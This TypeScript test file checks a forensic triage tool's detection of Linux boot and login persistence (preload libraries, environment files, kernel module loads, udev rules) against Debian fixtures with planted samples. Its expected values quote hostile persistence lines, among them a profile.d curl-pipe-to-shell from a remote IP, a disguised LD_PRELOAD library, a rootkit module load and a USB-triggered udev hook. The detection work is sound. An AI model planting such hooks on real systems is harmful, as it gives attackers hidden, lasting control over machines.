// The boot and login hooks on Debian's own files and one planted hook of each kind (fixtures/persistence/boot,
// make-boot.sh), as a directory, a tar and a tar.gz: ld_preload, environment, modules_load, udev_rules.
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { preloadNames } from "../../../../plugins/os/unix/linux/ld_preload.js";
import { udevPairs } from "../../../../plugins/os/unix/linux/udev_rules.js";
import { dir, symlink } from "../../../../src/fs/memory.js";
import { prng } from "../../../helpers/prng.js";
import { PERSISTENCE, run, threeTargets } from "./triage.js";
import { targetFromTree } from "../../../../plugins/index.js";

const ROOT = path.join(PERSISTENCE, "boot/root");
const mtime = (p: string): number => Math.floor(fs.statSync(path.join(ROOT, p)).mtimeMs / 1000);
const secs = (ts: unknown): number | null => (ts as { seconds: number } | null)?.seconds ?? null;

describe.each(await threeTargets(ROOT, "boot"))("boot and login hooks as $kind", ({ path: target }) => {
  it("ld_preload: the planted library, found inside the target, and a warning for it", async () => {
    const r = await run(target, "ld_preload");
    expect(r.records.map((x) => [x.library, x.exists, x.lineno, secs(x.ts)])).toEqual([["/usr/lib/x86_64-linux-gnu/libselinux.so.3.1", true, 1, mtime("etc/ld.so.preload")]]);
    expect(r.warnings).toEqual([{ message: 'line 1: "/usr/lib/x86_64-linux-gnu/libselinux.so.3.1" is preloaded into every dynamically linked program', file: "/etc/ld.so.preload", offset: 0 }]);
  });

  it("environment: every startup file with mtime and size; /etc/environment's settings; LD_PRELOAD and a bad line warned", async () => {
    const r = await run(target, "environment");
    const files = r.records.filter((x) => x.size !== undefined);
    expect(files.map((x) => [x.filepath, x.user])).toEqual([
      ["/etc/environment", null],
      ["/etc/profile", null],
      ["/etc/bash.bashrc", null],
      ["/etc/profile.d/zz-update.sh", null],
      ["/root/.profile", "root"],
      ["/root/.bashrc", "root"],
      ["/root/.bash_logout", "root"],
      ["/home/alice/.profile", "alice"],
      ["/home/alice/.bashrc", "alice"],
      ["/home/alice/.bash_logout", "alice"],
    ]);
    for (const f of files) expect([secs(f.ts), f.size]).toEqual([mtime(String(f.filepath).slice(1)), fs.statSync(path.join(ROOT, String(f.filepath))).size]);
    expect(r.records.filter((x) => x.key !== undefined).map((x) => [x.key, x.value, x.lineno])).toEqual([
      ["PATH", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", 1],
      ["LD_PRELOAD", "/usr/lib/x86_64-linux-gnu/libselinux.so.3.1", 2],
    ]);
    const env = fs.readFileSync(path.join(ROOT, "etc/environment"), "utf8");
    expect(r.warnings).toEqual([
      { message: "line 2: LD_PRELOAD is set for every login session", file: "/etc/environment", offset: env.indexOf("LD_PRELOAD") },
      { message: 'line 3: not NAME=value: "this is not an assignment"; pam_env skips it', file: "/etc/environment", offset: env.indexOf("this is") },
    ]);
  });

  it("environment --lines: the lines of the files, the planted alias with its line", async () => {
    const r = await run(target, "environment", { lines: true });
    const lines = r.records.filter((x) => x.line !== undefined);
    expect(lines.filter((x) => x.filepath === "/etc/profile.d/zz-update.sh").map((x) => [x.line, x.lineno])).toEqual([["(curl -fsS http://203.0.113.66/u | sh) >/dev/null 2>&1 &", 2]]);
    const bashrc = fs.readFileSync(path.join(ROOT, "home/alice/.bashrc"), "utf8").split("\n");
    const planted = bashrc.findIndex((l) => l.includes("/tmp/.x/kworker"));
    expect(lines.find((x) => x.filepath === "/home/alice/.bashrc" && x.lineno === planted + 1)).toMatchObject({ user: "alice", line: bashrc[planted] });
  });

  it("modules_load: Debian's /etc/modules through its modules.conf link, then the planted modules-load.d file", async () => {
    const r = await run(target, "modules_load");
    expect(r.warnings).toEqual([]);
    expect(r.records.map((x) => [x.filepath, x.module, x.arguments, x.lineno])).toEqual([
      ["/etc/modules-load.d/modules.conf", "loop", "max_loop=64", 7],
      ["/etc/modules-load.d/modules.conf", "bonding", null, 8],
      ["/etc/modules-load.d/netfilter.conf", "nf_conntrack", null, 2],
      ["/etc/modules-load.d/netfilter.conf", "diamorphine", null, 3],
    ]);
  });

  it("udev_rules: every program Debian's rules and the planted one run, in udev's file order, without a warning", async () => {
    const r = await run(target, "udev_rules");
    expect(r.warnings).toEqual([]);
    const files = r.records.map((x) => String(x.filepath).split("/").pop());
    expect([...new Set(files)]).toEqual(["71-seat.rules", "73-seat-late.rules", "85-hwclock.rules", "95-dm-notify.rules", "99-systemd.rules", "99-usb-sync.rules"]);
    expect(r.records.find((x) => String(x.filepath).endsWith("99-usb-sync.rules"))).toMatchObject({
      key: "RUN",
      op: "+=",
      program: "/bin/sh -c '/usr/local/sbin/usb-sync &'",
      rule: `ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c '/usr/local/sbin/usb-sync &'"`,
      lineno: 1,
      filepath: "/etc/udev/rules.d/99-usb-sync.rules",
    });
    expect(r.records.find((x) => x.program === "/usr/lib/udev/hwclock-set $root/$name")).toMatchObject({ key: "RUN", filepath: "/lib/udev/rules.d/85-hwclock.rules" });
    expect(r.records.find((x) => x.key === "RUN{builtin}")).toMatchObject({ program: "uaccess" });
  });
});

describe("boot hooks: precedence, masks, bad input", () => {
  const base = { "/etc/os-release": "ID=debian\n", "/var": dir() };

  it("a rules or modules file of the same name in /etc replaces the vendor one; a link to /dev/null masks it", async () => {
    const t = targetFromTree({
      ...base,
      "/usr/lib/udev/rules.d/50-a.rules": 'RUN+="/vendor/a"\n',
      "/etc/udev/rules.d/50-a.rules": 'RUN+="/etc/a"\n',
      "/usr/lib/udev/rules.d/60-b.rules": 'RUN+="/vendor/b"\n',
      "/etc/udev/rules.d/60-b.rules": symlink("/dev/null"),
      "/usr/lib/modules-load.d/x.conf": "vendor_x\n",
      "/etc/modules-load.d/x.conf": symlink("/dev/null"),
      "/usr/lib/modules-load.d/y.conf": "vendor_y ; not a module line\n",
    });
    expect((await run(t, "udev_rules")).records.map((x) => x.program)).toEqual(["/etc/a"]);
    const m = await run(t, "modules_load");
    expect(m.records).toEqual([]);
    expect(m.warnings).toEqual([{ message: 'line 1: not a module name: "vendor_y ; not a module line"; skipped', file: "/usr/lib/modules-load.d/y.conf", offset: 0 }]);
  });

  it("a udev line that is no rule is a warning with its line; the rules around it are read", async () => {
    const t = targetFromTree({ ...base, "/etc/udev/rules.d/10-x.rules": 'RUN+="/one"\nthis is not a rule\nPROGRAM=="/two", IMPORT{program}="/three"\n' });
    const r = await run(t, "udev_rules");
    expect(r.records.map((x) => [x.key, x.program, x.lineno])).toEqual([["RUN", "/one", 1], ["PROGRAM", "/two", 3], ["IMPORT{program}", "/three", 3]]);
    expect(r.warnings).toEqual([{ message: 'line 2: not a udev rule (KEY op "value", …): "this is not a rule"; skipped', file: "/etc/udev/rules.d/10-x.rules", offset: 12 }]);
  });

  it("ld.so.preload: blanks, colons and # comments separate names, as glibc reads it; a missing library is told", async () => {
    expect(preloadNames("/a.so:/b.so  libc.so.6 # /c.so")).toEqual(["/a.so", "/b.so", "libc.so.6"]);
    const r = await run(targetFromTree({ ...base, "/etc/ld.so.preload": "# none\n/lib/gone.so\n" }), "ld_preload");
    expect(r.records.map((x) => [x.library, x.exists, x.lineno])).toEqual([["/lib/gone.so", false, 2]]);
  });

  it("each is not applicable without its files", async () => {
    for (const fn of ["ld_preload", "environment", "modules_load", "udev_rules"]) expect((await run(targetFromTree(base), fn)).outcome.status).toBe("absent");
  });

  it("fuzz: cut and damaged udev rules and preload lines never throw", () => {
    const rand = prng(99);
    for (const name of fs.readdirSync(path.join(ROOT, "lib/udev/rules.d"))) {
      const source = fs.readFileSync(path.join(ROOT, "lib/udev/rules.d", name));
      for (let i = 0; i < 100; i++) {
        const b = Buffer.from(source.subarray(0, Math.floor(rand() * (source.length + 1))));
        for (let k = Math.floor(rand() * 5); k > 0; k--) b[Math.floor(rand() * b.length)] = Math.floor(rand() * 256);
        for (const l of b.toString("latin1").split("\n")) {
          const pairs = udevPairs(l);
          if (pairs) for (const p of pairs) expect(p.key.length).toBeGreaterThan(0);
          for (const n of preloadNames(l)) expect(n).not.toMatch(/[ \t\r\v\f:#]/);
        }
      }
    }
  });
});
